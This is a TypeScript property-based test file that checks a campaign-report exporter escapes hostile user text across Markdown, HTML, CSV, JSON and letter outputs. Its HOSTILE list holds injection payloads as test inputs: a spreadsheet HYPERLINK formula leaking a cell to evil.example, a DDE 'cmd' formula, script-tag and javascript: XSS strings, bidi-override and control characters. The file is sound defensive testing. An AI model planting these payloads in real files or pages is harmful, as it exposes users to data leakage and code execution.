/** Texts that mean harm to whoever opens a form of the report: each stays a text, readable as it was meant. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanLine, cleanText } from '../../../utils/report/clean';
import { reportCsv } from '../../../utils/report/report-csv';
import { newsletterText, thanksText } from '../../../utils/report/letters';
import { reportOf } from '../../../utils/report/make';
import { chatMarkdown, escapeMarkdown, reportMarkdown } from '../../../utils/report/markdown';
import type { Report } from '../../../utils/report/report';
import { reportJson } from '../../../utils/report/report-json';
import { escapeHtml, reportRichText } from '../../../utils/report/rich';
import { AS_OF, known, knownCampaign, person } from './any-report';
import { readCsv, readHtml, readMarkdown } from './numbers';
import { wordsIn } from './words';

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '＝1+1',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  'a | b | c\n| --- |',
  '<img src=x onerror=alert(1)><script>alert(1)</script>',
  '&lt;b&gt; &amp; &#60;i&#62;',
  '](javascript:alert(1)) [x](javascript:alert(1)) ![p](https://evil.example/p.png)',
  '**bold** _it_ `code` ~~gone~~ <https://evil.example>',
  '# heading',
  '1. list\n- item\n> quote\n---\n===',
  'line\r\nbreak\u2028separator\u0085next',
  'pay \u202Eelpmaxe\u202C \u2066isolate\u2069 \u200Bnone',
  '"quoted", \'single\', comma; semicolon',
  '@channel and <!here> @everyone',
  '\u0000null\u0007bell\u001b[31mred',
  '\\| \\',
];
/** Whatever may be typed, and the above. */
const anyText = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string(),
);

/** The same text wherever a text of others can stand. */
const reportWith = (text: string): Report =>
  reportOf(
    [
      {
        id: 'x',
        target: person(0),
        targetName: text,
        note: text,
        campaign: 'river/a',
        bills: [],
        day: '2026-11-20',
      },
    ].map((c) => ({
      ...c,
      jurisdiction: 'xx',
      chamber: 'lower' as const,
      district: '3',
      outcome: 'contact' as const,
    })),
    { campaign: 'river/a' },
    AS_OF,
    known({
      campaigns: [
        knownCampaign({
          ...{ title: text, group: text, lead: text, partners: [text], thanks: text, ask: text },
          ...{ status: 'archived', result: 'won' },
          deadlines: [{ type: 'floor_vote', at: '2026-11-30T12:00', zone: 'America/Chicago', place: text }],
        }),
      ],
      people: new Map([
        [person(0), { name: text, party: text, jurisdiction: 'xx', chamber: 'lower', district: '3' }],
      ]),
      groups: new Map([['river', text]]),
      quotes: [
        {
          ...{ id: 'x', text, day: '2026-11-20', target: person(0), targetName: text, group: 'river' },
          ...{ jurisdiction: 'xx', chamber: 'lower', district: '3', outcome: 'contact' },
        },
      ],
    }),
  );

const words = wordsIn('en');
/** Our own isolation of texts that read from right to left is no text. */
const bare = (text: string) => text.replace(/[\u2068\u2069]/g, '');

const MARKDOWN_KINDS =
  /^(heading|paragraph|inline|text|text_special|strong|bullet_list|list_item|table|thead|tbody|tr|th|td|blockquote|softbreak)(_open|_close)?$/;
const HTML_KINDS = new Set(
  'div h1 h2 p small strong bdi ul li table thead tbody tr th td blockquote @style @scope'.split(' '),
);

describe('texts of others', () => {
  it('stay one paragraph of text in Markdown, to a reader that knows HTML', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const report = reportWith(text);
        for (const markdown of [reportMarkdown(report, words), chatMarkdown(report, words)]) {
          const { outline, kinds } = readMarkdown(markdown);
          expect([...kinds].filter((kind) => !MARKDOWN_KINDS.test(kind))).toEqual([]);
          expect(bare(outline[0]?.heading ?? '')).toBe(
            mentionless(`${cleanLine(text)} (SB 12, HB 34)`.trim()),
          );
        }
        const table = readMarkdown(reportMarkdown(report, words)).outline.find(
          (o) => o.heading === 'By person called',
        );
        expect(new Set(table?.rows.map((cells) => cells.length))).toEqual(new Set([10]));
      }),
      { numRuns: 40 },
    ));

  it('stay text in HTML: no element or attribute but ours', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const report = reportWith(text);
        const { html } = reportRichText(report, words);
        const { outline, kinds } = readHtml(html.replace(/ style="[\w:;# -]*"/g, ''));
        expect([...kinds].filter((kind) => !HTML_KINDS.has(kind))).toEqual([]);
        expect(outline[0]?.heading).toBe(`${cleanLine(text)} (SB 12, HB 34)`);
      }),
      { numRuns: 15 },
    ));

  it('never begin a cell of a spreadsheet as a formula does, and come back whole', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const rows = readCsv(reportCsv(reportWith(text), { bom: true }));
        for (const row of rows)
          for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
        const name = rows.find((row) => row['section'] === 'target' && row['id'] === person(0))?.['name'];
        expect(name?.replace(/^'(?='*[=+\-@＝＋－＠])/, '')).toBe(cleanLine(text));
        expect(Object.keys(rows[0]!)).toHaveLength(22);
      }),
      { numRuns: 30 },
    ));

  it('keep no control that turns the reading order around, in any form', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        const report = reportWith(text);
        const forms = [
          ...[
            reportMarkdown(report, words),
            chatMarkdown(report, words),
            reportCsv(report),
            reportJson(report),
          ],
          ...[reportRichText(report, words).html, reportRichText(report, words).plain],
          ...[newsletterText(report, words), thanksText(report, words) ?? ''],
        ];
        for (const form of forms)
          expect(bare(form)).not.toMatch(
            /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200b\u2028-\u202e\u2066-\u2069]/,
          );
      }),
      { numRuns: 30 },
    ));

  it('keep letters that are read from right to left apart from the numbers beside them', () => {
    expect(escapeMarkdown('שלום 12')).toBe('\u2068שלום 12\u2069');
    expect(escapeMarkdown('Noor 12')).toBe('Noor 12');
    expect(reportRichText(reportWith('سلام'), words).html).toContain('<bdi>سلام (SB 12, HB 34)</bdi>');
  });

  it('are cleaned once and for all, lines kept where there may be some', () =>
    fc.assert(
      fc.property(anyText, (text) => {
        expect(cleanText(cleanText(text))).toBe(cleanText(text));
        expect(cleanLine(cleanLine(text))).toBe(cleanLine(text));
      }),
    ));

  it('call nobody in a chat', () => {
    expect(escapeMarkdown('@channel and <!here>')).toBe('@ channel and \\<!here>');
    expect(escapeMarkdown('a@b.org')).toBe('a@b.org');
    expect(escapeHtml(`<a href='x'>&"`)).toBe('&lt;a href=&#39;x&#39;&gt;&amp;&quot;');
  });
});

/** As a chat is kept from calling everybody. */
const mentionless = (text: string) => text.replace(/(?<!\w)@(?=\w)/g, '@ ');
